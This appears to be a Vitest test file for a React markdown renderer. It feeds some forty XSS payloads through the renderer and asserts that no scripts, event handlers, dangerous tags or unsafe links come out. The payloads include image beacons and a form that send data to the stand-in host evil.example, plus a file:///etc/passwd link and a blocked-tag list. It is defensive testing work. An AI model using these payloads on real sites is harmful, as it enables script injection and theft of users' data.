import { renderToStaticMarkup } from "react-dom/server";
import { expect, test } from "vitest";
import { decodeEntities } from "./decode-entities";
import { MarkdownText } from "./markdown-text";

function render(markdown: string): string {
  return renderToStaticMarkup(<MarkdownText text={markdown} live={false} />);
}

const attacks = [
  "<script>window.__xss=1</script>",
  "<img src=x onerror=window.__xss=1>",
  "<svg/onload=window.__xss=1>",
  '<iframe srcdoc="<script>1</script>"></iframe>',
  "<a href='javascript:window.__xss=1'>x</a>",
  "<style>*{background:url(https://evil.example/)}</style>",
  "<details open ontoggle=window.__xss=1>",
  '<math><mtext><table><mglyph><style><img src=x onerror="1">',
  "[x](javascript:window.__xss=1)",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html,<script>1</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](blob:https://a.example/1)",
  "[x](//evil.example/)",
  "[x](/api/relay/x)",
  "[x]( javascript:alert(1) )",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/beacon.png?d=secret)",
  "![x](//evil.example/a.png)",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "![x](data:text/html,<script>1</script>)",
  "![x][r]\n\n[r]: https://evil.example/a.png",
  '![x](https://evil.example/a.png" onerror="alert(1))',
  "[![x](https://evil.example/a.png)](javascript:alert(1))",
  '[x](https://a.example/" onclick="alert(1))',
  "| <img src=x onerror=alert(1)> |\n|---|\n| [x](javascript:alert(1)) |",
  '```"><script>alert(1)</script>\ncode\n```',
  "# <script>alert(1)</script>",
  "- <img src=https://evil.example/a.png>",
  "> <link rel=stylesheet href=https://evil.example/a.css>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  '<base href="https://evil.example/">',
  '<form action="https://evil.example/"><button>x</button></form>',
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "$$\\href{javascript:alert(1)}{x}$$",
  '```mermaid\ngraph TD; click A href "javascript:alert(1)"\n```',
];

test.each(attacks)("renders %j without script, fetch or HTML", (markdown) => {
  const html = render(markdown);
  const tags = [...html.matchAll(/<\/?([a-zA-Z][\w:-]*)([^>]*)>/g)];
  for (const [, name, attributes = ""] of tags) {
    expect([
      "script",
      "img",
      "iframe",
      "style",
      "object",
      "embed",
      "link",
      "meta",
      "base",
      "form",
      "math",
      "video",
    ]).not.toContain(name);
    expect(attributes).not.toMatch(/\son\w+=|javascript:|vbscript:|src=/i);
    const href = /href="([^"]*)"/.exec(attributes)?.[1];
    if (href !== undefined) expect(href).toMatch(/^(?:https?:\/\/|mailto:)/);
  }
});

test("opens links in a new tab that knows nothing of this page", () => {
  expect(render("[x](https://a.example/?b=1&c=2)")).toContain(
    '<a href="https://a.example/?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow"',
  );
});

test("shows an image inside of the answer, and only a note about one elsewhere", () => {
  expect(render("![a](data:image/png;base64,iVBORw0KGgo=)")).toContain("<img");
  const remote = render("![a cat](https://b.example/cat.png)");
  expect(remote).not.toContain("<img");
  expect(remote).toContain("Open image in a new tab");
  expect(remote).toContain("b.example");
});

test.each([
  ["# T", "<h3"],
  ["**b** *i* ~~d~~ `c`", "<strong>b</strong> <em>i</em> <del>d</del> <code>c</code>"],
  ["3. c\n4. d", '<ol start="3">'],
  ["- [x] done", 'type="checkbox" disabled="" aria-label="done" checked=""'],
  ["|a|b|\n|-|-:|\n|1|2|", '<td style="text-align:right">2</td>'],
  ["a<br>b", "a<br/>b"],
  ["a  \nb", "<br/>"],
  ["> q", "<blockquote><p>q</p></blockquote>"],
  ["a &amp; b &lt; c &#8364; &mdash; &unknown;", "a &amp; b &lt; c € — &amp;unknown;"],
  ["<b>x</b>", "&lt;b&gt;x&lt;/b&gt;"],
  ["www.a.example", 'href="http://www.a.example/"'],
])("renders %j", (markdown, html) => {
  expect(render(markdown)).toContain(html);
});

test("decodes character references, and no others", () => {
  expect(decodeEntities("&#x1F44B; &#0; &#xD800; &#x110000; &constructor; &AMP")).toBe(
    "👋 \uFFFD \uFFFD \uFFFD &constructor; &AMP",
  );
});
